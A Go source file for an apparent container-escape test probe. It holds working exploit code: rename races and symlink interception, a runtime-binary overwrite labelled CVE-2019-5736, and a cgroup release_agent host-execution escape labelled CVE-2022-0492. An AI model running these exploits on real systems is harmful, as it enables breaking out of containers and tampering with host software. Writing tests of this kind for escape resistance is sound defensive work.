// Command probe is what the tests of escapes run inside containers. Its verbs
// are attacks, which say how far they came, and looks at what can be seen.
// It is static and needs nothing of its root.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "probe VERB ARG…")
		os.Exit(2)
	}
	args := os.Args[2:]
	var err error
	switch os.Args[1] {
	case "true":
	case "wait":
		_, _ = os.Stdin.Read(make([]byte, 1))
	case "read":
		err = read(args)
	case "swap":
		err = swap(args[0], args[1])
	case "intercept":
		err = intercept(args[0], args[1:])
	case "overwrite":
		err = overwrite(args[0])
	case "release-agent":
		err = releaseAgent(args[0], args[1])
	case "rewrite":
		err = rewrite(args[0])
	case "try":
		try()
	case "show":
		err = show(args[0])
	default:
		err = fmt.Errorf("no verb %s", os.Args[1])
	}
	if err != nil {
		fmt.Println("failed:", err)
		os.Exit(1)
	}
}

// patience bounds waiting for what somebody else does.
const patience = 50 * time.Second

// read prints files, each with its name before.
func read(names []string) error {
	var failed error
	for _, name := range names {
		body, err := os.ReadFile(name)
		if err != nil {
			failed = errors.Join(failed, err)
			continue
		}
		fmt.Printf("%s: %s\n", name, body)
	}
	return failed
}

// swap exchanges two names until it is killed: the other half of a race.
func swap(a, b string) error {
	fmt.Println("swapping")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			return err
		}
	}
}

// intercept puts a link in the place of one of the folders as soon as somebody
// makes it.
func intercept(target string, dirs []string) error {
	fmt.Println("waiting for", dirs)
	for {
		for _, dir := range dirs {
			if err := unix.Rename(dir, dir+".was"); err == nil {
				return os.Symlink(target, dir)
			}
		}
	}
}

// rewrite writes a file's first bytes back into it: proof that it could be
// changed, without changing it.
func rewrite(name string) error {
	if info, err := os.Stat(name); err != nil || info.Mode()&os.ModeDevice != 0 {
		return fmt.Errorf("%s is a device: %w", name, err)
	}
	body, err := os.ReadFile(name)
	if err != nil {
		return err
	}
	fmt.Printf("%s holds %q\n", name, body)
	f, err := os.OpenFile(name, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	if _, err := f.Write(body); err != nil {
		return err
	}
	fmt.Println("rewritten")
	return nil
}

// overwrite is CVE-2019-5736 from inside: somebody executes a script of ours
// whose interpreter is /proc/self/exe, i.e. the runtime itself, which then waits
// at a fifo for us. We keep its file and write to it when it has ended.
func overwrite(fifo string) error {
	fmt.Println("waiting for the runtime")
	var exe *os.File
	var pid string
	for until := time.Now().Add(patience); exe == nil; {
		if time.Now().After(until) {
			return errors.New("the runtime never came")
		}
		found, err := filepath.Glob("/proc/[0-9]*/cmdline")
		if err != nil {
			return err
		}
		for _, name := range found {
			line, _ := os.ReadFile(name)
			if !strings.Contains(string(line), "--log="+fifo) {
				continue
			}
			pid = strings.Split(name, "/")[2]
			if f, err := os.Open("/proc/" + pid + "/exe"); err == nil {
				exe = f
			}
		}
	}
	head := make([]byte, 4)
	if _, err := exe.ReadAt(head, 0); err != nil || string(head) != "\x7fELF" {
		return fmt.Errorf("what was executed is no program: %q, %w", head, err)
	}
	fmt.Println("holding the runtime's program")
	// It waits for a reader of its log.
	log, err := os.OpenFile(fifo, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer log.Close()
	link := "/proc/self/fd/" + strconv.Itoa(int(exe.Fd()))
	for until := time.Now().Add(patience); ; {
		f, err := os.OpenFile(link, os.O_WRONLY|os.O_TRUNC, 0)
		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(until) {
			time.Sleep(time.Millisecond)
			continue
		}
		if err != nil {
			return err
		}
		_, err = f.WriteString("#!/bin/sh\necho overwritten\n")
		if err == nil {
			fmt.Println("overwritten")
		}
		return err
	}
}

// releaseAgent is CVE-2022-0492 and its older form: make the host's kernel run
// a program of ours when a control group becomes empty. It says how each way
// went, and waits for the proof that agent writes.
func releaseAgent(agent, proof string) error {
	ways := []struct {
		name    string
		unshare int
		data    string
	}{
		{"as we are, a hierarchy of our own", 0, "none,name=escape"},
		{"as we are, a controller", 0, "rdma"},
		{"in a user namespace", unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP, "none,name=escape"},
	}
	var all error
	for _, w := range ways {
		if w.unshare != 0 {
			// Not in this process: it has threads.
			cmd, err := os.StartProcess("/proc/self/exe", []string{"probe", "true"}, &os.ProcAttr{Sys: &syscall.SysProcAttr{
				Cloneflags: uintptr(w.unshare), UidMappings: []syscall.SysProcIDMap{{Size: 1}}, GidMappings: []syscall.SysProcIDMap{{Size: 1}},
			}})
			if err == nil {
				_, err = cmd.Wait()
			}
			all = errors.Join(all, fmt.Errorf("%s: clone: %w", w.name, err))
			continue
		}
		err := release(w.data, agent, proof)
		if err == nil {
			return nil
		}
		all = errors.Join(all, fmt.Errorf("%s: %w", w.name, err))
	}
	// And what the container has mounted already.
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	for _, name := range append(agents, "/sys/fs/cgroup/notify_on_release", "/sys/fs/cgroup/release_agent") {
		err := os.WriteFile(name, []byte(agent), 0)
		all = errors.Join(all, fmt.Errorf("write: %w", err))
		if err == nil {
			return nil
		}
	}
	return all
}

func release(data, agent, proof string) error {
	const top = "/tmp/cg"
	if err := os.MkdirAll(top, 0o700); err != nil {
		return err
	}
	if err := unix.Mount("cgroup", top, "cgroup", 0, data); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	defer func() { _ = unix.Unmount(top, unix.MNT_DETACH) }()
	if err := os.WriteFile(top+"/release_agent", []byte(agent), 0); err != nil {
		return err
	}
	group := top + "/x"
	if err := os.Mkdir(group, 0o700); err != nil {
		return err
	}
	defer func() { _ = os.Remove(group) }()
	if err := os.WriteFile(group+"/notify_on_release", []byte("1"), 0); err != nil {
		return err
	}
	p, err := os.StartProcess("/proc/self/exe", []string{"probe", "wait"}, &os.ProcAttr{Files: []*os.File{nil}})
	if err != nil {
		return err
	}
	werr := os.WriteFile(group+"/cgroup.procs", []byte(strconv.Itoa(p.Pid)), 0)
	_ = p.Kill()
	if _, err := p.Wait(); err != nil {
		return err
	}
	if werr != nil {
		return werr
	}
	for until := time.Now().Add(patience); ; time.Sleep(time.Millisecond) {
		if _, err := os.Stat(proof); err == nil {
			fmt.Println("the host ran our program")
			return nil
		}
		if time.Now().After(until) {
			return errors.New("the host did not run our program")
		}
	}
}
